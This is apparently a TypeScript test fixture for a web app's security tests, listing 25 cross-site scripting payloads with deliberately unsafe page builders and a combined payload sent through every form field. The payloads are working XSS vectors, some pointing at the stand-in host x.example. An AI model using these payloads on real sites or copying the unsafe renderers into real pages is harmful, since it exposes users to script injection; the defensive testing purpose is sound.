/** What a text does where it is written as part of a page: `ran()` is called, or something is asked of `//x.example`. */
export type Payload = {
  name: string
  text: string
  /** A page that takes the text for its own, so that the script in it runs: what the real pages must not do. */
  unsafe: (text: string) => string
  /** What it is made of: so many scripts run on that page, and a field that takes no more is sent one of them. */
  parts?: readonly string[]
}

const inBody = (text: string) => `<p>${text}</p>`
const inDouble = (text: string) => `<input value="${text}">`
const inSingle = (text: string) => `<input value='${text}'>`
const inScript = (text: string) => `<script>var kept = "${text}"</script>`
const clicked = (page: string) => `${page}<script>document.querySelector('a, button').click()</script>`
const asHtml = (code: string) =>
  `<p id="p"></p><script>document.querySelector('#p').innerHTML = ${code}</script>`

/** 25 shapes that known attacks have. White space stands only where a slash does the same, as addresses hold none. */
export const everyPayload: readonly Payload[] = [
  { name: 'a script tag', text: '<script>ran()</script>', unsafe: inBody },
  { name: 'mixed case', text: '<ScRiPt>ran()</sCrIpT>', unsafe: inBody },
  { name: 'a picture that fails', text: `<img src='x'onerror='ran()'>`, unsafe: inBody },
  { name: 'a drawing that loads', text: '<svg onload=ran()>', unsafe: inBody },
  { name: 'out of a double-quoted attribute', text: '"><svg onload=ran()>', unsafe: inDouble },
  { name: 'a handler in a single-quoted attribute', text: `' autofocus onfocus='ran()'`, unsafe: inSingle },
  {
    name: 'an address that is a script',
    text: 'javascript:ran()//',
    unsafe: (text) => clicked(`<a href="${text}">x</a>`),
  },
  { name: 'out of a script', text: '</script><script>ran()</script>', unsafe: inScript },
  {
    name: 'out of a title',
    text: '</title><svg onload=ran()>',
    unsafe: (text) => `<title>${text}</title>`,
  },
  {
    name: 'out of a text area',
    text: '</textarea><svg onload=ran()>',
    unsafe: (text) => `<textarea>${text}</textarea>`,
  },
  { name: 'out of a comment', text: '--><svg onload=ran()><!--', unsafe: (text) => `<!-- ${text} -->` },
  { name: 'a template', text: '{{ran()}}${ran()}', unsafe: (text) => `<script>\`${text}\`</script>` },
  {
    name: 'entities',
    text: '&lt;svg onload=ran()&gt;',
    unsafe: (text) => `<p>${text}</p><script>document.body.innerHTML = document.body.textContent</script>`,
  },
  {
    name: 'escapes of JSON',
    text: String.raw`\u003csvg onload=ran()\u003e`,
    unsafe: (text) => asHtml(`"${text}"`),
  },
  {
    name: 'a line separator',
    text: '//\u2028ran()//',
    unsafe: (text) => `<script>// ${text}</script>`,
  },
  { name: 'a frame with a page of its own', text: `<iframe srcdoc='<svg onload=ran()>'>`, unsafe: inBody },
  {
    name: 'harmless until it is written and read again',
    text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
    unsafe: (text) =>
      asHtml(
        `new DOMParser().parseFromString(${JSON.stringify(text).replaceAll('</', String.raw`<\/`)}, 'text/html').body.innerHTML`,
      ),
  },
  {
    name: 'a button that sends elsewhere',
    text: `<form><button formaction='javascript:ran()'>x</button>`,
    unsafe: (text) => clicked(inBody(text)),
  },
  { name: 'a style that fetches', text: `<style>@import'//x.example';</style>`, unsafe: inBody },
  {
    name: 'another base',
    text: `<base href='//x.example/'>`,
    unsafe: (text) => `${text}<script src="a.js"></script>`,
  },
  { name: 'a refresh', text: `<meta http-equiv='refresh'content='0;//x.example'>`, unsafe: inBody },
  {
    name: 'an object with a page of its own',
    text: `<object data='data:text/html,<script>ran()</script>'>`,
    unsafe: inBody,
  },
  { name: 'details that open', text: '<details open ontoggle=ran()>', unsafe: inBody },
  { name: 'a field that takes the focus', text: '<input autofocus onfocus=ran()>', unsafe: inBody },
  { name: 'a sound that fails', text: '<audio src onerror=ran()>', unsafe: inBody },
]

const byName = (name: string) => everyPayload.filter((one) => one.name === name)
const parts = ['an address that is a script', 'a script tag', 'a template'].flatMap((name) =>
  byName(name).map(({ text }) => text),
)

/** Three of them in one text, which does what each would for a third of the screens. */
const THREE_IN_ONE: Payload = {
  name: 'an address that is a script, a script tag and a template',
  text: parts.join(''),
  unsafe: (text) =>
    clicked(
      `${inBody(text)}<script>\`${text.replaceAll('/', String.raw`\/`)}\`</script><a href="${text}">x</a>`,
    ),
  parts,
}

/**
 * Those that are sent through every field: four in two texts in the gate, and each of all by itself with `EVERY_CASE=1`.
 * The one that stands alone holds neither colon, slash nor amount, with which no e-mail would greet by it.
 */
export const payloads: readonly Payload[] =
  process.env['EVERY_CASE'] === '1'
    ? everyPayload
    : [...byName('out of a double-quoted attribute'), THREE_IN_ONE]

/** The same payload in the shapes that fields of a format may take, the plainest first. */
export function shapesOf({ text, parts = [] }: Payload): string[] {
  return [text, `https://x.example/${text.replaceAll(/\s/g, '/')}`, ...parts]
}
